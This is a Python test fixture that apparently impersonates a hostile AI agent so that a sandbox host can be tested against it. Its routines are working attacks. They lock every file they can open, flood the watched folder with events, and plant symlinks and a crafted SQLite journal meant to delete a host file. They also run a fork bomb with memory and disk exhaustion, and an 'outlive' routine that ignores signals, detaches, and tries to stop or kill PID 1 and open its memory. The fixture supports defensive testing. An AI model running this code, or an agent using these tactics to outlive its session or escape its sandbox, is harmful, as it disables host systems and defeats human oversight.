"""A hostile agent that makes trouble: a program in the place of the runner, which goes on until it is killed.

    python troubles.py TROUBLE

It makes `/workspace/agent/ready` once the trouble is there. It uses the standard library alone.
"""

from __future__ import annotations

import contextlib
import ctypes
import fcntl
import json
import os
import signal
import socket
import sqlite3
import struct
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path

SESSION, OWN = Path("/workspace"), Path("/workspace/agent")
FLOODERS = 2
PATIENCE_S = 1.0
"""The longest wait for a lock."""
PR_SET_PDEATHSIG = 1
TROUBLES: dict[str, Callable[[], None]] = {}


def trouble(call: Callable[[], None]) -> Callable[[], None]:
    """Add a trouble to the list."""
    TROUBLES[call.__name__] = call
    return call


def ready(**told: object) -> None:
    """Tell the test that the trouble is there."""
    part = OWN / "ready.part"
    part.write_text(json.dumps(told), "utf-8")
    part.rename(OWN / "ready")


def wait() -> None:
    """Wait to be killed. Whoever asks is not heard."""
    while True:
        signal.pause()


# -- locks ------------------------------------------------------------------------


@trouble
def locks() -> None:
    """Lock every file that can be opened, also through read-only mounts."""
    places = (SESSION, Path("/opt/nanoclaw"), Path("/usr/lib/python3"), Path("/etc"))
    files = [file.resolve() for place in places for file in sorted(place.rglob("*"))[:300] if file.is_file()]
    held = [found for file in dict.fromkeys(files) for found in lock(file)]
    (SESSION / "hint-journal").touch()
    (SESSION / "hint-journal").unlink()  # the host looks at outbound.db
    ready(held=held)
    wait()


def lock(file: Path) -> Iterator[str]:
    """Take all locks of a file that there are, and keep them. Yield their names."""
    for mode in (os.O_RDWR, os.O_RDONLY):
        with contextlib.suppress(OSError):
            descriptor = os.open(file, mode | os.O_NONBLOCK)
            for name, take, kind in (
                ("shared", fcntl.lockf, fcntl.LOCK_SH),
                ("exclusive", fcntl.lockf, fcntl.LOCK_EX),
                ("flock", fcntl.flock, fcntl.LOCK_EX),
            ):
                with contextlib.suppress(OSError):
                    taken(take, descriptor, kind)
                    yield f"{file}: {name}"
            return


def taken(take: Callable[[int, int], None], descriptor: int, kind: int) -> None:
    """Take a lock. The host holds some of them for a moment. Raises OSError."""
    until = time.monotonic() + PATIENCE_S
    while True:
        try:
            return take(descriptor, kind | fcntl.LOCK_NB)
        except BlockingIOError:
            if time.monotonic() > until:
                raise
            time.sleep(0.002)


# -- events -----------------------------------------------------------------------


@trouble
def events() -> None:
    """Cause as many file events a second as the machine allows, in the folder that the host watches."""
    for n in range(FLOODERS):
        if os.fork() == 0:
            flood(n)
    began, before = time.monotonic(), time.process_time()
    count = flood(FLOODERS, until=began + 1)
    ready(events_a_second=int(count * (1 + FLOODERS)), cpu=time.process_time() - before)
    flood(FLOODERS)


def flood(n: int, until: float | None = None) -> int:
    """Make and remove journals. Return the number of events."""
    names, count = [f"/workspace/{n}-{each}-journal" for each in range(50)], 0
    while until is None or time.monotonic() < until:
        for name in names:
            os.close(os.open(name, os.O_CREAT | os.O_WRONLY))
            os.rename(name, f"{name}-x-journal")  # noqa: PTH104 -- pathlib is slower
            os.unlink(f"{name}-x-journal")  # noqa: PTH108 -- pathlib is slower
        count += 5 * len(names)  # create, close, two of the rename, delete
    return count


# -- other things in the place of files ---------------------------------------------


def fifo(place: Path) -> None:
    """Make a pipe, whose opening waits for ever."""
    os.mkfifo(place, 0o666)


def link(place: Path) -> None:
    """Make a link to a file of the host."""
    place.symlink_to(json.loads((OWN / "facts.json").read_text("utf-8"))["victim"])


def folder(place: Path) -> None:
    """Make a folder."""
    place.mkdir()
    (place / "x").touch()


def listener(place: Path) -> None:
    """Make a socket that answers nobody."""
    socket.socket(socket.AF_UNIX).bind(str(place))


def endless(place: Path) -> None:
    """Make a file that is larger than the disk."""
    with place.open("wb") as file:
        file.truncate(1 << 40)


def shared_memory(place: Path) -> None:
    """Make a database in WAL mode whose shared memory is cut."""
    if not place.name.endswith(".db"):
        place.touch()
        return
    if os.fork() == 0:
        connection = sqlite3.connect(place)
        connection.executescript("PRAGMA journal_mode = WAL; CREATE TABLE t (x)")
        os._exit(0)
    os.wait()
    os.truncate(f"{place}-shm", 0)


def journal(place: Path) -> None:
    """Make a journal of a transaction across files. Its rollback would delete a file of the host."""
    victim = json.loads((OWN / "facts.json").read_text("utf-8"))["victim"]
    page, magic, name = 4096, bytes.fromhex("d9d505f920a163d7"), os.fsencode(victim)
    header = magic + struct.pack(">IIIII", 0, 7, 8, 512, page)
    trailer = name + struct.pack(">II", len(name), sum(name)) + magic
    place.write_bytes(header.ljust(512, b"\0") + struct.pack(">I", 0x40000000 // page + 1) + trailer)


KINDS = (fifo, link, folder, listener, endless, shared_memory, journal)
PLACES = (
    *("outbox", ".heartbeat", ".draft", ".tools.sock", "owner", "claude", "inbound.db-journal"),
    *("in", "gateway", "global"),
    *("agent/CLAUDE.md", "agent/skills", "agent/notes.db", "agent/notes.db-journal", "agent/packages"),
    *("in/inbound.db-journal", "in/inbox", "gateway/model.sock"),
)


@trouble
def places() -> None:
    """Put something else in each place that the host reads or writes. Each start takes the next kind."""
    counter = OWN / "starts"
    n = int(counter.read_text("utf-8")) if counter.exists() else 0
    counter.write_text(str(n + 1), "utf-8")
    if n >= len(KINDS):
        link(SESSION / "replaced")
        (SESSION / "replaced").rename(SESSION / "outbound.db")
        journal(SESSION / "outbound.db-journal")
        shared_memory(SESSION / "other.db")
        for end in ("-wal", "-shm"):
            Path(f"{SESSION}/other.db{end}").rename(f"{SESSION}/outbound.db{end}")
        ready(starts=n)
        wait()
    for place in PLACES:
        with contextlib.suppress(OSError):
            remove(SESSION / place)
            KINDS[n](SESSION / place)


def remove(place: Path) -> None:
    """Remove whatever is there. Raises OSError."""
    if place.is_dir() and not place.is_symlink():
        for each in place.iterdir():
            remove(each)
        place.rmdir()
    else:
        place.unlink(missing_ok=True)


# -- all that a machine has ---------------------------------------------------------


@trouble
def storm() -> None:
    """Take all processes, memory, descriptors, and room in the folders in memory that can be had."""
    for _ in range(3):
        if os.fork() == 0:
            hog()
    children = 0
    with contextlib.suppress(OSError):
        while children < 5000:
            if os.fork() == 0:
                with contextlib.suppress(OSError):
                    while True:
                        os.fork()
                wait()
            children += 1
    ready(children=children)
    while True:
        sum(range(100_000))


def hog() -> None:
    """Fill memory and folders."""
    files = [open(f"{at}/full", "wb") for at in ("/tmp", "/dev/shm", "/home/agent")]  # noqa: PTH123, S108, SIM115 -- a few lines that must not end
    held = list[bytes]()
    while True:
        with contextlib.suppress(OSError, MemoryError):
            for file in files:
                file.write(b"x" * (1 << 20))
            held.append(b"x" * (1 << 20))


# -- a life without a host ------------------------------------------------------------


@trouble
def outlive() -> None:
    """Detach from everything, and try to keep the sandbox alive."""
    libc = ctypes.CDLL(None, use_errno=True)
    for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP, signal.SIGCHLD}:
        with contextlib.suppress(OSError, ValueError):
            signal.signal(number, signal.SIG_IGN)
    libc.prctl(PR_SET_PDEATHSIG, 0, 0, 0, 0)
    for _ in range(3):
        if os.fork() == 0:
            os.setsid()
            libc.prctl(PR_SET_PDEATHSIG, 0, 0, 0, 0)
            if os.fork() == 0:
                wait()
            os._exit(0)
    ready(first=[taken_over(way) for way in (stopped, killed, rewritten)])
    wait()


def stopped() -> None:
    """Stop the first process, which may watch the lifeline. A namespace's first process is not stopped."""
    os.kill(1, signal.SIGSTOP)
    if "T" in Path("/proc/1/stat").read_text("utf-8").rpartition(")")[2].split()[0]:
        return
    raise PermissionError


def killed() -> None:
    """Kill the first process. The first process of a namespace does not hear it."""
    os.kill(1, signal.SIGKILL)
    raise PermissionError


def rewritten() -> None:
    """Open the memory of the first process."""
    os.close(os.open("/proc/1/mem", os.O_RDWR))


def taken_over(way: Callable[[], None]) -> str | None:
    """Return the name of a way that worked."""
    try:
        way()
    except OSError:
        return None
    return way.__name__


if __name__ == "__main__":
    TROUBLES[sys.argv[1]]()
